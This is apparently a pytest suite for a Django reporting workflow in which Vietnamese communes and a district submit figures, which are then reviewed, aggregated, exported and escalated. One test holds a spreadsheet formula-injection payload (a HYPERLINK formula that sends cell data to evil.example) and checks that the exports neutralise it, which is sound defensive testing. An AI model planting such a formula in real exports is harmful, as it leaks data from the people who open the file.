"""A reporting period for one district with three communes, walked to the city aggregate: opening through the
directive engine, commune reports (return, resubmit), the district's review and aggregate, the Department's
acceptance, the exports, reminders and escalation, the frozen indicator set and the schedule."""

import csv
import io
from datetime import date, datetime, timedelta
from decimal import Decimal
from zoneinfo import ZoneInfo

import pytest
import time_machine
from django.core.exceptions import PermissionDenied, ValidationError
from openpyxl import load_workbook

from common.errors import AlreadyDone
from coordination import reporting_selectors as selectors
from coordination.models import (
    Assignment,
    AssignmentEvent,
    Directive,
    Indicator,
    ReportingPeriod,
    ReportingSchedule,
    UnitReport,
)
from coordination.services import deadlines_scan, report_save_draft
from notifications.models import Notification
from org.models import Structure, Unit
from tests.clock import hanoi
from tests.coordination.reporting_helpers import (
    COMMUNES,
    DISTRICT,
    acknowledge,
    assignment,
    figures,
    open_period,
    review,
    run_commune,
    small_org,
    submit,
)
from tests.workflows.directive.helpers import open_task
from workflows import engine
from workflows.directive import services as directive_services
from workflows.directive import steps as directive_steps
from workflows.directive.flow import DirectiveFlow, UnitAssignmentFlow
from workflows.reporting import services as reporting_flow
from workflows.reporting import steps as reporting_steps


@pytest.fixture
def org(demo):
    return small_org()


@pytest.fixture
def period(org, user, django_capture_on_commit_callbacks):
    return open_period(user("quanly"), django_capture_on_commit_callbacks)


def _sum(values: list[dict], code: str) -> Decimal:
    return sum((Decimal(str(v[code]).replace(",", ".")) for v in values), Decimal(0))


HANOI = ZoneInfo("Asia/Ho_Chi_Minh")


def test_opening_goes_through_the_directive_engine(period, org):
    directive = period.directive
    assert period.status == ReportingPeriod.Status.OPEN and len(period.indicators) == 38
    assert directive.issuing_unit.code == "SVHTT-TTBCXB" and directive.report_requirements == ["figures"]
    assert directive.status == Directive.Status.IN_PROGRESS and directive.approved_by.username == "quanly"
    assert directive.deadline == period.deadline and period.deadline.hour == 23
    assert period.deadline.utcoffset() == timedelta(hours=7)  # end of 06/06 in Asia/Ho_Chi_Minh
    district = assignment(period, DISTRICT)
    assert district.parent is None and district.relayed
    children = list(directive.assignments.filter(parent=district).values_list("unit__codename", flat=True))
    assert sorted(children) == sorted(COMMUNES)
    assert directive.assignments.count() == 4
    assert open_task(assignment(period, COMMUNES[0]), UnitAssignmentFlow.acknowledge)
    assert Notification.objects.filter(recipient__username=COMMUNES[0], kind="directive_received").count() == 1


def test_a_period_opens_once(period, user):
    with pytest.raises(AlreadyDone):
        reporting_flow.period_open(user=user("quanly"), kind="half_year", year=period.year, structure=Structure.CURRENT)
    assert ReportingPeriod.objects.filter(kind="half_year", structure=Structure.CURRENT).count() == 1


def test_cancelling_the_directive_cancels_the_period_which_may_then_be_opened_again(
        period, user, django_capture_on_commit_callbacks):
    commune = assignment(period, COMMUNES[0])
    acknowledge(commune, user(COMMUNES[0]))
    with django_capture_on_commit_callbacks(execute=True):
        directive_services.directive_withdraw(directive=period.directive, user=user("quanly"), reason="Mở nhầm năm")
    period.refresh_from_db()
    assert period.status == ReportingPeriod.Status.CANCELLED and period.closed_at is not None
    with pytest.raises(ValidationError, match="nhiệm vụ đã kết thúc"):
        report_save_draft(assignment=commune, user=user(COMMUNES[0]), values=figures(1))
    # The schedule does not bring it back; the division may open it again, as a new period and directive.
    ReportingSchedule.objects.update(structure=Structure.CURRENT)
    _cutoff, due, _opening = ReportingSchedule.objects.get(kind="half_year").dates(period.year)
    assert [p.kind for p in reporting_flow.periods_open_due(due)] == []
    again = open_period(user("quanly"), django_capture_on_commit_callbacks, year=period.year)
    assert again.pk != period.pk and again.status == ReportingPeriod.Status.OPEN
    assert again.directive_id != period.directive_id and again.directive.assignments.count() == 4
    with pytest.raises(AlreadyDone):
        reporting_flow.period_open(user=user("quanly"), kind="half_year", year=period.year, structure=Structure.CURRENT)


def test_only_the_issuing_division_opens_periods(org, user):
    with pytest.raises(PermissionDenied):
        reporting_flow.period_open(user=user(COMMUNES[0]), kind="half_year", year=2025, structure=Structure.CURRENT)
    assert not ReportingPeriod.objects.exists()


def test_a_drafter_opens_and_a_leader_approves(org, user, django_capture_on_commit_callbacks):
    period = open_period(user("phongtt"), django_capture_on_commit_callbacks)
    assert period.directive.status == Directive.Status.PENDING_APPROVAL and not period.directive.assignments.exists()
    with django_capture_on_commit_callbacks(execute=True):
        engine.task_run(open_task(period.directive, DirectiveFlow.approve), user("giamdoc"),
                          directive_steps.approve_step, approve=True)
    assert period.directive.assignments.count() == 4


def test_period_runs_to_the_city_aggregate(period, user, django_capture_on_commit_callbacks, client):
    district_officer, issuer = user(DISTRICT), user("phongtt")
    values = {codename: figures(n) for n, codename in enumerate(COMMUNES, start=1)}

    # the first commune is returned once by its district, then accepted
    first = assignment(period, COMMUNES[0])
    acknowledge(first, user(COMMUNES[0]))
    submit(first, user(COMMUNES[0]), {**values[COMMUNES[0]], "sms_sent": 5}, notes="Số liệu tạm")
    review(first, district_officer, accept=False, comment="Kiểm tra lại số tin nhắn")
    report = UnitReport.objects.get(assignment=first)
    assert report.status == UnitReport.Status.RETURNED and report.return_comment == "Kiểm tra lại số tin nhắn"
    submit(first, user(COMMUNES[0]), values[COMMUNES[0]])
    review(first, district_officer)
    for codename in COMMUNES[1:]:
        run_commune(period, codename, user(codename), district_officer, values[codename])
    assert set(UnitReport.objects.filter(period=period).values_list("status", flat=True)) == {"accepted"}

    # the district sends the sums of its accepted communes; its page shows them
    district = assignment(period, DISTRICT)
    acknowledge(district, district_officer)
    task = open_task(district, UnitAssignmentFlow.report)
    client.force_login(district_officer)
    html = client.get(f"/unitassignment/{task.process_id}/report/{task.pk}/execute/").content.decode()
    assert "Số liệu tổng hợp" in html and "Xã Thứ Ba" in html and "3.600" in html  # sms: 3 × 1200
    submit(district, district_officer, notes="Ba xã đã báo cáo đầy đủ")
    district_report = UnitReport.objects.get(assignment=district)
    assert district_report.values["sms_sent"] == 3600 and district_report.values["clusters_total"] == 36
    assert district_report.values["airtime_own_hours"] == "43.5"  # 13,5 + 14,5 + 15,5
    assert district_report.values["web_page"] == 2  # communes answering yes
    assert district_report.values["station_technology"] == {"wired": 1, "fm": 0, "ip": 2, "mixed": 0}
    district.refresh_from_db()
    assert district.report_figures["children_done"] == 3

    # the Department accepts: the directive's wait resumes, the period can be closed
    with django_capture_on_commit_callbacks(execute=True):
        review(district, issuer)
    city = selectors.totals(period)
    assert city["count"] == 3
    for code in ("clusters_total", "items_aired", "zalo_followers", "airtime_own_hours", "airtime_source_hours"):
        assert Decimal(str(city["values"][code])) == _sum(list(values.values()), code), code
    assert city["values"] == district_report.values
    by_district = selectors.totals_by_district(period)
    assert by_district[district.unit_id]["values"] == city["values"]
    reporting_flow.period_finish(period=period, user=user("quanly"), summary="Đủ 4 đơn vị")
    period.refresh_from_db()
    assert period.status == ReportingPeriod.Status.CLOSED
    assert period.directive.status == Directive.Status.CLOSED

    client.force_login(issuer)
    page = client.get(f"/coordination/reports/{period.pk}/").content.decode()
    assert "Tổng hợp toàn thành phố" in page and "Huyện Thử Nghiệm" in page and "3.600" in page


def test_district_sends_an_accepted_commune_back_when_its_totals_are_returned(
        period, user, django_capture_on_commit_callbacks, client):
    district_officer, issuer = user(DISTRICT), user("phongtt")
    district = assignment(period, DISTRICT)
    acknowledge(district, district_officer)
    communes = {c: run_commune(period, c, user(c), district_officer, figures(n)) for n, c in
                enumerate(COMMUNES, start=1)}
    first = communes[COMMUNES[0]]
    with pytest.raises(PermissionDenied):  # not the commune itself, nor another commune
        reporting_flow.report_send_back(assignment=first, user=user(COMMUNES[1]), comment="x")
    submit(district, district_officer)
    with pytest.raises(ValidationError, match="đã gửi báo cáo của mình"):  # the district's totals are sent
        reporting_flow.report_send_back(assignment=first, user=district_officer, comment="Sai số cụm loa")
    review(district, issuer, accept=False, comment="Xã Thứ Nhất: số cụm loa chưa khớp")

    # On its reopened report page the district finds the link beside the accepted commune.
    task = open_task(district, UnitAssignmentFlow.report)
    page_url = f"/unitassignment/{task.process_id}/report/{task.pk}/execute/"
    client.force_login(district_officer)
    html = client.get(page_url).content.decode()
    reopen_url = f"/unitassignment/reports/assignments/{first.pk}/send-back/"
    assert html.count("Trả lại để sửa") == 3 and reopen_url in html
    response = client.post(f"{reopen_url}?next={page_url}", {"comment": ""})
    assert "Trường này là bắt buộc" in response.content.decode()
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(f"{reopen_url}?next={page_url}", {"comment": "Số cụm loa chưa khớp"})
    assert response.status_code == 302 and response.url == page_url
    first.refresh_from_db()
    assert first.status == Assignment.Status.RETURNED and first.closed_at is None
    assert UnitReport.objects.get(assignment=first).status == UnitReport.Status.RETURNED
    assert Notification.objects.filter(recipient__username=COMMUNES[0], kind="report_returned").exists()
    with pytest.raises(ValidationError, match="1 đơn vị cấp dưới"):  # the totals wait for the commune
        submit(district, district_officer)
    client.force_login(user(COMMUNES[0]))
    page = client.get(f"/coordination/assignments/{first.pk}/").content.decode()
    assert "Số cụm loa chưa khớp" in page
    client.force_login(district_officer)

    # The commune corrects, the district accepts, the corrected totals go up and are accepted.
    submit(first, user(COMMUNES[0]), {**figures(1), "clusters_total": 40})
    review(first, district_officer)
    submit(district, district_officer)
    totals = UnitReport.objects.get(assignment=district).values
    assert totals["clusters_total"] == 40 + 12 + 13
    with django_capture_on_commit_callbacks(execute=True):
        review(district, issuer)
    assert selectors.totals(period)["values"]["clusters_total"] == 65
    assert client.get(reopen_url).status_code == 200  # the form shows, and the service refuses now:
    response = client.post(reopen_url, {"comment": "Muộn rồi"})
    assert "Đơn vị đã gửi báo cáo" in response.content.decode()


def test_district_cannot_send_before_its_communes_are_done(period, user):
    district = assignment(period, DISTRICT)
    acknowledge(district, user(DISTRICT))
    run_commune(period, COMMUNES[0], user(COMMUNES[0]), user(DISTRICT), figures(1))
    with pytest.raises(ValidationError, match="2 đơn vị cấp dưới"):
        submit(district, user(DISTRICT))
    assert not UnitReport.objects.filter(assignment=district).exclude(status="draft").exists()


def test_validation_errors_appear_per_field_in_vietnamese(period, user, client):
    a = assignment(period, COMMUNES[0])
    officer = user(COMMUNES[0])
    acknowledge(a, officer)
    task = open_task(a, UnitAssignmentFlow.report)
    url = f"/unitassignment/{task.process_id}/report/{task.pk}/execute/"
    client.force_login(officer)
    data = {f"ind_{k}": ("1" if v is True else "0" if v is False else v) for k, v in figures(1).items()}
    data.update({"ind_clusters_total": "-3", "ind_items_aired": "nhiều", "ind_hamlets_covered": "99",
                 "ind_airtime_own_hours": "1,23456", "ind_propagandists_total": "", "action": "submit"})
    response = client.post(url, data)
    assert response.status_code == 200
    html = response.content.decode()
    errors = response.context["form"].errors
    assert errors["ind_clusters_total"] == ["Số liệu không được âm."]
    assert errors["ind_items_aired"] == ["Hãy nhập số nguyên."]
    assert errors["ind_hamlets_covered"] == ["Không được lớn hơn chỉ tiêu “Tổng số thôn, tổ dân phố” (9)."]
    assert errors["ind_airtime_own_hours"] == ["Tối đa 4 chữ số thập phân."]
    assert errors["ind_propagandists_total"] == ["Chỉ tiêu bắt buộc: hãy nhập số liệu."]
    assert 'id="error-hamlets_covered"' in html and "Tổng số thôn, tổ dân phố” (9)" in html
    a.refresh_from_db()
    assert a.status == Assignment.Status.RECEIVED and not UnitReport.objects.filter(assignment=a).exists()

    # a draft keeps an incomplete form (only types and signs are checked) and does not finish the task
    response = client.post(url, {"ind_clusters_total": "12", "ind_airtime_own_hours": "2,5", "action": "draft",
                                 "notes": "Chưa đủ"})
    assert response.status_code == 302
    report = UnitReport.objects.get(assignment=a)
    assert report.status == UnitReport.Status.DRAFT and report.values == {"clusters_total": 12,
                                                                            "airtime_own_hours": "2.5"}
    task.refresh_from_db()
    assert task.status == "ASSIGNED"
    html = client.get(url).content.decode()
    assert 'value="12"' in html and 'value="2,5"' in html and "Chưa đủ" in html

    data.update({"ind_clusters_total": "12", "ind_items_aired": "50", "ind_hamlets_covered": "9",
                 "ind_airtime_own_hours": "2,5", "ind_propagandists_total": "30"})
    assert client.post(url, data).status_code == 302
    report.refresh_from_db()
    assert report.status == UnitReport.Status.SUBMITTED and report.values["items_aired"] == 50
    a.refresh_from_db()
    assert a.status == Assignment.Status.REPORTED and a.report_figures["clusters_total"] == 12


def test_previous_period_value_is_shown_beside_each_field(org, user, client, django_capture_on_commit_callbacks):
    with time_machine.travel(datetime(2024, 12, 1, 10, tzinfo=HANOI), tick=True):  # the 2024 annual period's window
        annual = open_period(user("quanly"), django_capture_on_commit_callbacks, kind="annual", year=2024)
        assert annual.status == ReportingPeriod.Status.OPEN
        run_commune(annual, COMMUNES[0], user(COMMUNES[0]), user(DISTRICT), {**figures(1), "zalo_followers": 4321})
    period = open_period(user("quanly"), django_capture_on_commit_callbacks)
    a = assignment(period, COMMUNES[0])
    acknowledge(a, user(COMMUNES[0]))
    task = open_task(a, UnitAssignmentFlow.report)
    client.force_login(user(COMMUNES[0]))
    html = client.get(f"/unitassignment/{task.process_id}/report/{task.pk}/execute/").content.decode()
    assert "Kỳ trước (Năm 2024)" in html and "4.321" in html
    assert period.year > 2024


def test_indicator_set_is_frozen_when_the_period_opens(period, user):
    Indicator.objects.filter(code="sms_sent").update(name="Tin nhắn SMS (đổi tên)", required=True)
    Indicator.objects.filter(code="web_posts").update(is_active=False)
    Indicator.objects.create(code="new_after_opening", group="Mới", name="Chỉ tiêu thêm sau", kind="integer")
    period.refresh_from_db()
    frozen = {i["code"]: i for i in period.indicators}
    assert frozen["sms_sent"]["name"] == "Tin nhắn viễn thông đã gửi" and not frozen["sms_sent"]["required"]
    assert "web_posts" in frozen and "new_after_opening" not in frozen
    a = assignment(period, COMMUNES[0])
    acknowledge(a, user(COMMUNES[0]))
    values = figures(1)
    del values["sms_sent"]  # still optional in this period
    assert submit(a, user(COMMUNES[0]), values).status == UnitReport.Status.SUBMITTED


def test_reports_are_seen_and_edited_only_by_their_units(period, user, client):
    a = assignment(period, COMMUNES[0])
    acknowledge(a, user(COMMUNES[0]))
    task = open_task(a, UnitAssignmentFlow.report)
    with pytest.raises(PermissionDenied):
        engine.task_run(task, user(COMMUNES[1]), reporting_steps.report_submit_step, values=figures(1))
    with pytest.raises(PermissionDenied):
        report_save_draft(assignment=a, user=user(COMMUNES[1]), values={"sms_sent": 1})
    with pytest.raises(PermissionDenied):  # the district reviews, it does not fill in a commune's figures
        report_save_draft(assignment=a, user=user(DISTRICT), values={"sms_sent": 1})
    submit(a, user(COMMUNES[0]), figures(1))
    with pytest.raises(PermissionDenied):  # the Department reviews the district, not its communes
        review(a, user("phongtt"))

    url = f"/coordination/reports/{period.pk}/units/{a.unit_id}/"
    for username, status in [(COMMUNES[0], 200), (DISTRICT, 200), ("phongtt", 200), ("giamdoc", 200),
                             (COMMUNES[1], 404), ("quan_ba_dinh", 404)]:
        client.force_login(user(username))
        assert client.get(url).status_code == status, username
    client.force_login(user("quan_ba_dinh"))  # a district of another structure does not see the period at all
    assert client.get(f"/coordination/reports/{period.pk}/").status_code == 404
    assert str(period) not in client.get("/coordination/reports/").content.decode()
    client.force_login(user(COMMUNES[1]))
    html = client.get(f"/coordination/reports/{period.pk}/completeness/").content.decode()
    assert "Xã Thứ Hai" in html and "Xã Thứ Nhất" not in html
    client.force_login(user(DISTRICT))
    html = client.get(f"/coordination/reports/{period.pk}/completeness/").content.decode()
    assert "Xã Thứ Hai" in html and "Xã Thứ Nhất" in html
    client.force_login(user(COMMUNES[0]))
    assert client.get("/directive/reports/open/").status_code == 403


def _walk_to_accepted(period, user):
    """Two communes accepted, the third submitted but not yet reviewed."""
    for n, codename in enumerate(COMMUNES[:2], start=1):
        run_commune(period, codename, user(codename), user(DISTRICT), figures(n))
    third = assignment(period, COMMUNES[2])
    acknowledge(third, user(COMMUNES[2]))
    submit(third, user(COMMUNES[2]), figures(3))
    return [UnitReport.objects.get(period=period, unit__codename=c).values for c in COMMUNES[:2]]


def test_xlsx_totals_equal_the_sums_of_accepted_reports(period, user, client):
    accepted = _walk_to_accepted(period, user)
    client.force_login(user("phongtt"))
    response = client.get(f"/coordination/reports/{period.pk}/export.xlsx")
    assert response.status_code == 200 and response["Content-Type"].startswith("application/vnd.openxmlformats")
    book = load_workbook(io.BytesIO(response.content))
    communes, districts = book["Xã, phường"], book["Quận, huyện"]
    header = [c.value for c in communes[2]]
    rows = [list(r) for r in communes.iter_rows(min_row=3, values_only=True)]
    assert len(rows) == 4 and [r[1] for r in rows[:3]] == ["Xã Thứ Nhất", "Xã Thứ Hai", "Xã Thứ Ba"]
    assert rows[2][3] == "Đã gửi" and all(v is None for v in rows[2][5:])  # not accepted: no figures
    totals = rows[-1]
    assert totals[0] == "TỔNG CỘNG"
    codes = [i["code"] for i in period.indicators]
    for code in ("clusters_total", "sessions_aired", "zalo_followers", "airtime_own_hours", "sms_sent"):
        column = 5 + codes.index(code)
        assert Decimal(str(totals[column])) == _sum(accepted, code), code
        assert Decimal(str(totals[column])) == sum(Decimal(str(r[column])) for r in rows[:3] if r[column] is not None)
    assert header[5 + codes.index("sms_sent")] == "Tin nhắn viễn thông đã gửi (tin nhắn)"
    assert totals[5 + codes.index("web_page")] == 1  # one accepted commune answered yes
    district_rows = list(districts.iter_rows(min_row=3, values_only=True))
    assert district_rows[0][1] == "Huyện Thử Nghiệm" and district_rows[0][5:] == district_rows[-1][5:]

    response = client.get(f"/coordination/reports/{period.pk}/export.csv")
    text = response.content.decode("utf-8-sig")
    lines = list(csv.reader(io.StringIO(text)))
    assert len(lines) == 5 and lines[-1][0] == "TỔNG CỘNG"
    assert Decimal(lines[-1][5 + codes.index("sms_sent")]) == _sum(accepted, "sms_sent")


def test_exports_write_formulas_as_text_and_figures_as_numbers(period, user, client):
    """Unit and indicator names come from admin: one that starts like a formula stays text in XLSX and CSV."""
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"x")'
    Unit.objects.filter(structure=Structure.CURRENT, codename=COMMUNES[0]).update(name=formula)
    period.indicators[2]["name"] = "+1+1"  # clusters_total, frozen into the period
    period.save(update_fields=["indicators"])
    _walk_to_accepted(period, user)
    client.force_login(user("phongtt"))
    book = load_workbook(io.BytesIO(client.get(f"/coordination/reports/{period.pk}/export.xlsx").content))
    sheet = book["Xã, phường"]
    first = next(sheet.iter_rows(min_row=3, max_row=3))
    assert first[1].value == "'" + formula and first[1].data_type == "s"
    assert sheet.cell(row=2, column=8).value == "'+1+1 (cụm)"
    assert first[7].value == figures(1)["clusters_total"] and first[7].data_type == "n"
    assert [c.coordinate for ws in book for row in ws.iter_rows() for c in row if c.data_type == "f"] == []
    text = client.get(f"/coordination/reports/{period.pk}/export.csv").content.decode("utf-8-sig")
    lines = list(csv.reader(io.StringIO(text)))
    assert lines[0][7] == "'+1+1 (cụm)" and lines[1][1] == "'" + formula
    assert lines[1][7] == str(figures(1)["clusters_total"])


def test_aggregate_and_completeness_pages(period, user, client):
    _walk_to_accepted(period, user)
    client.force_login(user("giamdoc"))
    html = client.get(f"/coordination/reports/{period.pk}/").content.decode()
    assert "4 đơn vị · 3 đã gửi · 2 đã chấp nhận" in html
    html = client.get(f"/coordination/reports/{period.pk}/completeness/?show=missing").content.decode()
    assert "Huyện Thử Nghiệm" in html and "Xã Thứ Ba" not in html
    html = client.get("/coordination/reports/").content.decode()
    assert period.title in html


def test_late_unit_is_reminded_once_and_escalated(period, user, django_capture_on_commit_callbacks):
    for codename in COMMUNES[1:]:
        run_commune(period, codename, user(codename), user(DISTRICT), figures(2))
    late = assignment(period, COMMUNES[0])
    acknowledge(late, user(COMMUNES[0]))
    report_save_draft(assignment=late, user=user(COMMUNES[0]), values={"sms_sent": 3})  # a draft is not a report
    deadline = period.deadline

    def notes(username, kind):
        return Notification.objects.filter(recipient__username=username, kind=kind).count()

    with django_capture_on_commit_callbacks(execute=True):
        deadlines_scan(now=deadline - timedelta(hours=23))
        deadlines_scan(now=deadline - timedelta(hours=22))
    assert notes(COMMUNES[0], "due_soon") == 1 and notes(COMMUNES[1], "due_soon") == 0
    with django_capture_on_commit_callbacks(execute=True):
        deadlines_scan(now=deadline + timedelta(hours=25))
        deadlines_scan(now=deadline + timedelta(hours=26))
    assert notes(COMMUNES[0], "overdue") == 1
    assert notes(DISTRICT, "escalation") == 1  # the district that reviews it hears once
    assert late.events.filter(kind=AssignmentEvent.Kind.ESCALATED, once_key="escalate:parent").count() == 1
    assert late.events.filter(kind=AssignmentEvent.Kind.REMINDED).count() == 1
    progress = selectors.completeness_counts(period, now=deadline + timedelta(hours=26))
    assert progress["missing"] == 2 and progress["late"] == 2  # the commune and its district


def test_schedule_opens_the_period_once_on_its_day(org, user, django_capture_on_commit_callbacks):
    """The hourly job reads today's date in Hanoi: the clock is set for each step."""
    from workflows.tasks import reporting_periods_open_job

    def job() -> list[int]:
        with django_capture_on_commit_callbacks(execute=True):
            return reporting_periods_open_job.call_local()

    ReportingSchedule.objects.update(structure=Structure.CURRENT)
    with time_machine.travel(hanoi(2025, 5, 20), tick=False) as clock:
        assert job() == []
        clock.move_to(hanoi(2025, 5, 30, 23, 59))
        assert job() == []
        clock.move_to(hanoi(2025, 5, 31, 0, 7))  # still 30/5 in UTC: the opening day is Hanoi's
        opened = ReportingPeriod.objects.filter(pk__in=job())
        assert [(p.kind, p.year, p.cutoff_date, p.due_date) for p in opened] == [
            ("half_year", 2025, date(2025, 5, 30), date(2025, 6, 6))]
        assert opened[0].opened_by.username == "quanly"  # the division's leader, who may approve
        assert opened[0].directive.assignments.count() == 4
        clock.move_to(hanoi(2025, 6, 2))
        assert job() == []
        assert ReportingPeriod.objects.count() == 1
        clock.move_to(hanoi(2025, 6, 7))  # past the due date: a half-year period not opened by then never is
        ReportingPeriod.objects.all().delete()
        assert job() == []
        clock.move_to(hanoi(2025, 12, 3))  # a missed opening day is caught up before the due date
        assert [p.kind for p in ReportingPeriod.objects.filter(pk__in=job())] == ["annual"]
    # An explicit day is the same decision without the clock.
    assert reporting_flow.periods_open_due(date(2025, 12, 4)) == []


def test_admin_lists_the_seeded_indicators(demo, client, user):
    assert Indicator.objects.filter(is_active=True).count() == 38
    assert Indicator.objects.get(code="hamlets_covered").not_more_than.code == "hamlets_total"
    client.force_login(user("admin"))
    html = client.get("/admin/coordination/indicator/").content.decode()
    assert "Tổng số cụm loa" in html
    assert client.get("/admin/coordination/reportingschedule/").status_code == 200


def test_a_period_whose_due_day_has_passed_asks_for_a_new_due_date(org, user, client,
                                                                   django_capture_on_commit_callbacks):
    """Opening the 2026 half-year period in December would mark every unit overdue and escalate them all at once:
    the page warns and asks for a new due date; with one, the period opens due then and nobody is overdue."""
    with time_machine.travel(datetime(2026, 12, 2, 10, tzinfo=HANOI), tick=True):
        client.force_login(user("quanly"))
        form = {"kind": "half_year", "year": 2026, "structure": Structure.CURRENT}
        page = client.post("/directive/reports/open/", form)
        assert page.status_code == 200
        assert "Hạn gửi của kỳ này (06/06/2026) đã qua" in page.content.decode()
        assert not ReportingPeriod.objects.filter(year=2026, kind="half_year").exclude(
            status=ReportingPeriod.Status.DRAFT).exists()
        page = client.post("/directive/reports/open/", {**form, "due_date": "2026-11-01"})
        assert "đã qua" in page.content.decode()  # a new due date must not be past either
        with django_capture_on_commit_callbacks(execute=True):
            page = client.post("/directive/reports/open/", {**form, "due_date": "2026-12-20"})
        assert page.status_code == 302
        period = ReportingPeriod.objects.get(year=2026, kind="half_year", status=ReportingPeriod.Status.OPEN)
        assert period.due_date == date(2026, 12, 20) and period.directive.deadline == period.deadline
        before = Notification.objects.count()
        deadlines_scan()
        assert not period.directive.assignments.filter(overdue_since__isnull=False).exists()
        assert Notification.objects.count() == before


def test_the_schedule_never_opens_a_period_after_its_due_day(org, user):
    with time_machine.travel(datetime(2027, 6, 7, 10, tzinfo=HANOI), tick=False):
        assert reporting_flow.periods_open_due() == []
    assert not ReportingPeriod.objects.filter(year=2027).exclude(status=ReportingPeriod.Status.DRAFT).exists()
